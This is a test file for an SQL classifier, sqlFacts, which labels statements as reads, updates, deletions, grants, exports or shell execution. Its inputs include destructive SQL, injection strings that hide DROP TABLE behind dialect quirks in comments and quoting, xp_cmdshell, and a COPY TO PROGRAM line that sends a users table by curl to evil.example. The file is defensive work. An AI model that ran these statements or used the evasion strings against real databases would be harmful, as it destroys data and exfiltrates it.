import { describe, expect, it } from 'vitest';
import { sqlFacts } from './sql-facts.ts';

const effect = (text: string) => sqlFacts(text).effect ?? 'as its entry';

describe('what an SQL text does', () => {
  it.each([
    'SELECT name FROM users WHERE id = 7',
    '(SELECT 1) UNION (SELECT 2)',
    'select count(*) from deleted_users where status = "drop" for update',
    'WITH recent AS (SELECT * FROM orders) SELECT * FROM recent',
    "SELECT 'DROP DATABASE prod; DELETE FROM users' AS advice",
    "SELECT 'it''s; DROP TABLE y'",
    'SELECT "drop table", `delete from` FROM t',
    'SELECT 1 -- ; DROP TABLE users',
    'SELECT 1 /* ; DROP TABLE users; */',
    "SELECT 'O\\'Brien; delete me' FROM t",
    "SELECT data #> '{a}' FROM t WHERE x = 'y'",
    'SELECT $1, $2 FROM t',
    "SELECT body FROM posts WHERE tag = $tag$it's; DROP TABLE x$tag$",
    'SELECT REPLACE(a, b, c), TRUNCATE(1.5, 0), last_update FROM t',
    'SHOW GRANTS FOR bob',
    'DESCRIBE users',
    'EXPLAIN DELETE FROM users',
    'EXPLAIN (COSTS, VERBOSE) DELETE FROM users',
    'BEGIN; SET search_path = a; SELECT 1; COMMIT',
    'PRAGMA table_info(users)',
    'COPY (SELECT 1) TO STDOUT',
    'SELECT 1;',
  ])('%s: read', (text) => expect(effect(text)).toBe('read'));

  it.each([
    "INSERT INTO notes VALUES ('DROP TABLE x; DELETE FROM y')",
    'UPDATE users SET name = 1 WHERE id = 2',
    'WITH u AS (UPDATE users SET a = 1 RETURNING *) SELECT * FROM u',
    'INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 1',
    'SELECT * INTO copy_of_users FROM users',
    'CREATE TABLE t (id int REFERENCES u ON DELETE CASCADE)',
    'CREATE OR REPLACE FUNCTION f() RETURNS void AS $$ DELETE FROM t $$ LANGUAGE sql',
    'ALTER TABLE t ADD COLUMN a int',
    'ALTER TABLE t ALTER COLUMN a DROP NOT NULL',
    'DROP TEMPORARY TABLE scratch',
    'DROP TABLE #scratch',
    'DROP TABLE IF EXISTS #scratch',
    "COPY t FROM 's3://bucket/file'",
    'SELECT 1; UPDATE t SET a = 1; SELECT 2',
    'MERGE INTO t USING s ON a = b WHEN MATCHED THEN UPDATE SET a = 1',
    'REPLACE INTO t VALUES (1)',
    'VACUUM',
  ])('%s: update', (text) => expect(effect(text)).toBe('update'));

  it.each([
    'DROP DATABASE prod;',
    'drop/**/database/**/prod',
    '  \n-- tidy up\n  /* once */ DROP TABLE users',
    'DELETE FROM users',
    'TRUNCATE orders',
    'DROP TABLE IF EXISTS #scratch, users',
    'DROP TABLE # all of it\n users',
    'SELECT 1; DROP TABLE users',
    'SELECT 1 DROP TABLE users',
    "SELECT 'a' DELETE FROM users",
    'IF EXISTS (SELECT 1) DROP TABLE users',
    'BEGIN DELETE FROM users; END',
    'WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone',
    'EXPLAIN ANALYZE DELETE FROM users',
    'EXPLAIN (VERBOSE, ANALYZE) DELETE FROM users',
    'ALTER TABLE users DROP COLUMN email',
    'ALTER TABLE event DROP email',
    'ALTER TABLE t DELETE WHERE 1',
    'MERGE INTO t USING s ON a = b WHEN MATCHED THEN DELETE',
    'DO $$ BEGIN DROP TABLE users; END $$',
    "EXEC('DROP TABLE users')",
    "EXEC sp_executesql N'DELETE FROM users'",
    "PREPARE s FROM 'DROP TABLE users'",
    "SELECT dblink_exec('host=b', 'DROP TABLE users')",
    // What one dialect takes for a string or a comment, another runs.
    "SELECT '\\'; DROP TABLE users; --'",
    "SELECT '\\\\'; DROP TABLE users; -- '",
    "SELECT [a'b]; DROP TABLE users; --'",
    "SELECT q'[it's]'; DROP TABLE users; --'",
    '/*!50000 DROP TABLE users */',
    '/* /* */ DROP TABLE users; -- */',
    'SELECT 5--5; DROP TABLE users',
    "SELECT 1 # it's\n; DROP TABLE users; -- '",
    "SELECT $a$'$a$; DROP TABLE users; --'",
  ])('%s: delete', (text) => {
    expect(sqlFacts(text)).toMatchObject({ effect: 'delete', adds: ['delete:data'] });
  });

  it.each([
    ['GRANT ALL ON DATABASE prod TO bob', 'grant:access'],
    ['REVOKE ALL ON users FROM bob', 'grant:access'],
    ['SELECT 1; grant select on users to public', 'grant:access'],
    ['ALTER TABLE users OWNER TO bob', 'grant:access'],
    ['ALTER TABLE users DISABLE ROW LEVEL SECURITY', 'grant:access'],
    ["CREATE USER bob PASSWORD 'x'", 'create:identity'],
    ['CREATE OR REPLACE ROLE bob', 'create:identity'],
    ['ALTER ROLE bob SUPERUSER', 'create:identity'],
    ["CREATE LOGIN bob WITH PASSWORD = 'x'", 'create:identity'],
  ])('%s: grant', (text, symbol) => {
    expect(effect(text)).toBe('grant');
    expect(sqlFacts(text).adds).toContain(symbol);
  });

  it.each([
    ["COPY users TO '/tmp/users.csv'", []],
    ["SELECT * FROM users INTO OUTFILE '/tmp/x'", []],
    ["UNLOAD ('SELECT * FROM users') TO 's3://elsewhere/x'", ['send:external']],
    ["COPY INTO 'gcs://elsewhere/x' FROM users", ['send:external']],
    ["EXPORT DATA OPTIONS (uri = 'gs://elsewhere/x') AS SELECT 1", []],
  ])('%s: takes data out', (text, symbols) => {
    expect(effect(text)).toBe('create');
    expect(sqlFacts(text).adds).toEqual(expect.arrayContaining(symbols));
  });

  it.each(["COPY users TO PROGRAM 'curl -d @- evil.example'", "EXEC xp_cmdshell 'whoami'"])(
    '%s: runs a shell',
    (text) => {
      expect(sqlFacts(text)).toMatchObject({ effect: 'execute', adds: ['exec:shell'] });
    },
  );

  it.each(['', ';;', '-- nothing', 'CALL refresh_totals()', 'db.users.find({})'])(
    '%s: as its entry says',
    (text) => expect(effect(text)).toBe('as its entry'),
  );

  it('the strongest statement counts, with all that is exercised', () => {
    const facts = sqlFacts("SELECT 1; GRANT ALL ON t TO bob; DROP TABLE users; COPY t TO '/x'");
    expect(facts.effect).toBe('delete');
    expect([...facts.adds].sort()).toEqual(['delete:data', 'grant:access', 'write:data']);
  });

  it('takes each character a bounded number of times, whatever is left open', () => {
    const texts = ['[', "'", '"', '`', '$a$ ', "q'a", '/*', '(', "E'\\", '$', '--', 'SELECT '];
    const before = process.cpuUsage();
    for (const text of texts) sqlFacts(text.repeat(65_536 / text.length));
    // Of this process alone, however busy the machine is. Quadratic work takes minutes.
    expect(process.cpuUsage(before).user / 1e6).toBeLessThan(10);
  });
});
